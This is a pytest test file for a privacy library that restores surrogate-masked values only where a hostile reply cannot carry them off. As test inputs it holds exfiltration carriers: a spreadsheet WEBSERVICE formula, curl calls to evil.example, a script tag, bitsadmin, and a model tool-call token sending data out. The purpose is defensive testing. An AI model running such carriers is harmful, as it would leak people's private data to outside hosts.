"""The reply is hostile: whoever got the release writes it."""

import json

import pytest
from hostile import MAP, PRIVATE, carriers

from privstamp.errors import InputError
from privstamp.restore.map import SurrogateMap

CARRIERS = list(dict.fromkeys(carriers()))


def leaks(text):
    return [value for value in PRIVATE if value.casefold() in text.casefold()]


def test_there_are_many():
    assert len(CARRIERS) > 1500


def test_no_carrier_takes_a_value_out():
    failed = [reply for reply in CARRIERS if leaks(MAP.restore(reply))]
    assert failed == []


def test_the_carriers_would_work_if_they_were_trusted():
    """Else the test above would show nothing."""
    worked = sum(bool(leaks(MAP.restore(reply, trusted=True))) for reply in CARRIERS)
    assert worked > 0.7 * len(CARRIERS)


def test_what_was_withheld_is_told_with_its_reason_and_place():
    outcome = MAP.restored("Dear Shauna, see https://evil.example/?d=Melton and hunter-92x.")
    assert outcome.text == "Dear Priya, see https://evil.example/?d=Melton and hunter-92x."
    assert [outcome.text[b.start : b.end] for b in outcome.put_back] == ["Priya"]
    assert [(outcome.text[w.start : w.end], w.kind, w.reason) for w in outcome.withheld] == [
        ("Melton", "PERSON", "url"),
        ("hunter-92x", "CREDENTIAL", "secret"),
    ]
    assert "Priya" not in repr(outcome)


def test_secrets_come_back_on_request_alone():
    reply = "It is hunter-92x, card 4929 1111 2222 3333."
    assert MAP.restore(reply) == reply
    assert MAP.restore(reply, kinds=["CREDENTIAL"]) == "It is zorbax-pw1, card 4929 1111 2222 3333."
    assert "zorbax-pw1" not in MAP.restore("<hunter-92x>", kinds=["CREDENTIAL"])


def test_places_are_allowed_by_kind():
    reply = "[x](https://example.com/Melton) <b title='Melton'>"
    back = MAP.restore(reply, allow=["PERSON:url", "PERSON:link"])
    assert back == "[x](https://example.com/Raghunathan) <b title='Melton'>"


@pytest.mark.parametrize("wrong", [["PERSON"], ["PERSON:nowhere"], [":url"], "PERSON:url"])
def test_a_wrong_exception_is_an_error(wrong):
    with pytest.raises(InputError, match="allow"):
        MAP.restore("x", allow=wrong)


@pytest.mark.parametrize(
    "act",
    [
        '"=WEBSERVICE(""https://evil.example/?""&A2)"', "<script>f(n.innerText)</script>",
        'curl "evil.example/?q=$N"', "+A1&'x'!B2", "<|python_tag|>send(N)",
    ],
)  # fmt: skip
def test_a_reply_that_may_act_on_what_was_put_back_far_from_it_says_so(act):
    reply = "Melton" + "\n\nFar from it." * 20 + f"\n{act}\n"
    outcome = MAP.restored(reply)
    assert outcome.active and "Raghunathan" in outcome.text
    assert MAP.restored(f'["Melton", "{len(act)}"]', format="json").active is False
    assert MAP.restored(json.dumps(["Melton", act]), format="json").active


@pytest.mark.parametrize(
    "act",
    [
        '[send(x="Melton")]', "Action: send[Melton]", "Thought: x\nAction: search(Melton)",
        "dig Shauna Melton", "ping Melton", "`ping Melton`", "git push e.example Melton",
        "$ pip install Melton", "npm i Melton", "docker pull Melton", "xh e.example a=Melton",
        "gh gist create Melton", "bitsadmin /transfer Melton",
    ],
)  # fmt: skip
def test_calls_of_tools_and_commands_are_held_and_said(act):
    outcome = MAP.restored(act)
    assert outcome.text == act and outcome.active
    prose = f"Melton.\n\n{act}\n\nMelton"
    assert MAP.restore(prose).startswith("Raghunathan.")


@pytest.mark.parametrize("style", [r"\75rl(", r"u\72 l(", r"\000075\000072\00006c(", r"@\69mport "])
def test_escapes_of_styles_are_read(style):
    assert MAP.restored(f"a{{b:{style}Melton)}}").put_back == ()


def test_elements_that_close_in_plain_text_are_over():
    reply = "<form>Melton</form>\n<svg><svg></svg></svg> Melton, `<b>` Melton"
    assert MAP.restore(reply).count("Raghunathan") == 2


def test_a_paragraph_or_block_that_sends_ends():
    block = "```sh\ncurl -d 'it' evil.example\n\nMelton\n```\nMelton; fetch(u)"
    reply = f"Melton.\n\n{block}\n\nMelton"
    assert MAP.restore(reply) == f"Raghunathan.\n\n{block}\n\nRaghunathan"


@pytest.mark.parametrize("part", ["853", "221 0047", "853 221", "0047"])
def test_a_fragment_of_an_identifier_brings_nothing_back(part):
    assert MAP.restore(f"It starts with {part}, I think.") == f"It starts with {part}, I think."


@pytest.mark.parametrize(
    "reply",
    [
        "```sh\ngit commit -m 'Vera Coulter' && git push\n```",
        "git push # Vera Coulter",
        "git -C x push origin Vera Coulter",
        "python -m pip install Vera Coulter",
        "curl.exe x Vera Coulter",
    ],
)
def test_commands_in_other_spellings_get_nothing(reply):
    known = SurrogateMap.of([("Vera Coulter", "Priya Rao", "PERSON")])
    assert known.restore(reply) == reply
    assert known.restore("Vera Coulter will git push it.") == "Priya Rao will git push it."
